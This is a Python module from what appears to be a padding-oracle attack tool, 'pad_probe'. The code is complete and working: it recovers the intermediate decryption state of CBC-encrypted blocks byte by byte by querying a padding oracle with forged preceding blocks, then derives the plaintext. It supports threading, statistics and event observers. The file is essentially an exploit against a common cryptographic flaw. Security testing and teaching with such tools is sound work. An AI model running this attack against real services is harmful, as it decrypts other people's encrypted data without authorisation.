from __future__ import annotations
from concurrent.futures import ThreadPoolExecutor
from contextlib import nullcontext
from dataclasses import dataclass, field
from typing import Callable, List, Optional, Sequence

import structlog

from pad_probe.codec import bytes_to_hex, parse_block, xor
from pad_probe.errors import InvalidBlockError, OracleError, OracleExhausted
from pad_probe.events import AttackEvent, ByteRecovered, GuessChecked, Observer
from pad_probe.forge import build_forged_block
from pad_probe.oracle import OracleFn
from pad_probe.padding import strip_padding
from pad_probe.settings import AttackSettings

log = structlog.get_logger(__name__)

GUESS_VALUES = range(256)

# (position, guesses, recovered suffix) -> verdicts in guess order, up to and
# including the first valid one
CheckWindowFn = Callable[[int, Sequence[int], bytes], List[bool]]


@dataclass
class BlockStats:
    tries: int = 0
    positives: int = 0
    negatives: int = 0


@dataclass
class BlockResult:
    intermediate: bytes                       # recovered Iₙ (pre-XOR)
    stats: BlockStats = field(default_factory=BlockStats)
    plaintext_padded: Optional[bytes] = None  # Iₙ ⊕ Cₙ₋₁, needs the true preceding block
    plaintext: Optional[bytes] = None         # plaintext_padded with PKCS#7 padding removed

    @property
    def intermediate_hex(self) -> str:
        return bytes_to_hex(self.intermediate)

    @property
    def padding_length(self) -> Optional[int]:
        if self.plaintext_padded is None or self.plaintext is None:
            return None
        return len(self.plaintext_padded) - len(self.plaintext)


def _notify(observer: Optional[Observer], event: AttackEvent) -> None:
    if observer is not None:
        observer(event)


def _query(oracle: OracleFn, target_hex: str, position: int, guess: int, forged: bytes) -> bool:
    """Ask the oracle once. Anything other than a clean bool ends the run."""
    try:
        verdict = oracle(bytes_to_hex(forged), target_hex)
    except Exception as e:
        log.error("oracle query failed", position=position, guess=guess, error=repr(e))
        raise OracleError(position, guess, f"{type(e).__name__}: {e}") from e

    if not isinstance(verdict, bool):
        log.error("oracle returned non-bool verdict", position=position, guess=guess, verdict=repr(verdict))
        raise OracleError(position, guess, f"expected a bool verdict, got {type(verdict).__name__}")
    return verdict


def _search_position(
    check_window: CheckWindowFn,
    position: int,
    recovered: bytes,
    window_size: int,
    stats: BlockStats,
    observer: Optional[Observer],
) -> Optional[int]:
    """
    Walk the guesses in ascending windows and return the smallest guess that the
    oracle accepts, or None when all 256 values are rejected.
    """
    for start in range(0, len(GUESS_VALUES), window_size):
        window = GUESS_VALUES[start:start + window_size]
        verdicts = check_window(position, window, recovered)

        hit = None
        for guess, verdict in zip(window, verdicts):
            stats.tries += 1
            if verdict:
                stats.positives += 1
            else:
                stats.negatives += 1
            _notify(observer, GuessChecked(position=position, guess=guess, verdict=verdict))
            if verdict and hit is None:
                hit = guess

        if hit is not None:
            return hit
    return None


def recover_intermediate(
    target_block: bytes,
    oracle: OracleFn,
    *,
    settings: Optional[AttackSettings] = None,
    observer: Optional[Observer] = None,
    stats: Optional[BlockStats] = None,
) -> bytes:
    """
    Recover the intermediate decryption state Iₙ of a single target block Cₙ.

    Positions k = 1..block_size are solved from the last byte to the first. For each
    k the guesses g = 0..255 are submitted as forged preceding blocks and the first
    one the oracle accepts gives Iₙ[block_size - k] = g ⊕ k.

    Raises OracleExhausted when no guess is accepted at some position, and
    OracleError when the oracle itself fails. Bytes recovered before the failure
    are discarded with the run.
    """
    settings = settings or AttackSettings()
    stats = stats if stats is not None else BlockStats()
    block_size = settings.block_size
    if len(target_block) != block_size:
        raise InvalidBlockError(block_size, len(target_block))

    target_hex = bytes_to_hex(target_block)
    pool = ThreadPoolExecutor(max_workers=settings.workers) if settings.workers > 1 else nullcontext()

    with pool as executor:

        def check_window(position: int, guesses: Sequence[int], recovered: bytes) -> List[bool]:
            queries = [
                (position, guess, build_forged_block(position, guess, recovered, block_size))
                for guess in guesses
            ]
            futures = []
            if executor is None:
                results = (_query(oracle, target_hex, *query) for query in queries)
            else:
                futures = [executor.submit(_query, oracle, target_hex, *query) for query in queries]
                results = (future.result() for future in futures)

            # Guess order, stopping at the first hit; later answers and faults are dropped.
            verdicts = []
            try:
                for verdict in results:
                    verdicts.append(verdict)
                    if verdict:
                        break
            finally:
                for future in futures:
                    future.cancel()
            return verdicts

        recovered = b""
        for position in range(1, block_size + 1):
            log.debug("attacking position", position=position, recovered=recovered.hex())

            guess = _search_position(check_window, position, recovered, settings.workers, stats, observer)
            if guess is None:
                log.warning("no valid guess", position=position, tries=stats.tries)
                raise OracleExhausted(position)

            intermediate_byte = guess ^ position
            # Earlier byte of the block than anything recovered so far.
            recovered = bytes([intermediate_byte]) + recovered
            log.info(
                "byte recovered",
                position=position,
                guess=f"{guess:02x}",
                intermediate_byte=f"{intermediate_byte:02x}",
            )
            _notify(observer, ByteRecovered(position=position, recovered_byte=intermediate_byte))

    return recovered


def decrypt_block(
    target_block_hex: str,
    oracle: OracleFn,
    *,
    settings: Optional[AttackSettings] = None,
    observer: Optional[Observer] = None,
) -> str:
    """Recover the intermediate state of a hex target block, returned as 0x-prefixed hex."""
    settings = settings or AttackSettings()
    target_block = parse_block(target_block_hex, settings.block_size)
    intermediate = recover_intermediate(target_block, oracle, settings=settings, observer=observer)
    return bytes_to_hex(intermediate)


def finish_plaintext(intermediate: bytes, preceding_block: bytes, block_size: int = 8) -> tuple[bytes, bytes]:
    """ For CBC mode, plaintext = previous ciphertext block ⊕ intermediate.

    Returns the padded plaintext and the plaintext with its padding stripped.
    """
    plaintext_padded = xor(intermediate, preceding_block)
    return plaintext_padded, strip_padding(plaintext_padded, block_size)


def solve_block(
    target_block_hex: str,
    oracle: OracleFn,
    *,
    preceding_block_hex: Optional[str] = None,
    settings: Optional[AttackSettings] = None,
    observer: Optional[Observer] = None,
) -> BlockResult:
    """
    Recover Iₙ for one block and, when the true preceding block (or IV) is given,
    the plaintext as well.
    """
    settings = settings or AttackSettings()
    target_block = parse_block(target_block_hex, settings.block_size)
    preceding_block = None
    if preceding_block_hex is not None:
        # Validate before spending any oracle queries.
        preceding_block = parse_block(preceding_block_hex, settings.block_size)

    stats = BlockStats()
    intermediate = recover_intermediate(
        target_block, oracle, settings=settings, observer=observer, stats=stats
    )
    result = BlockResult(intermediate=intermediate, stats=stats)

    if preceding_block is not None:
        result.plaintext_padded, result.plaintext = finish_plaintext(
            intermediate, preceding_block, settings.block_size
        )
    log.info("block solved", intermediate=result.intermediate_hex, tries=stats.tries)
    return result
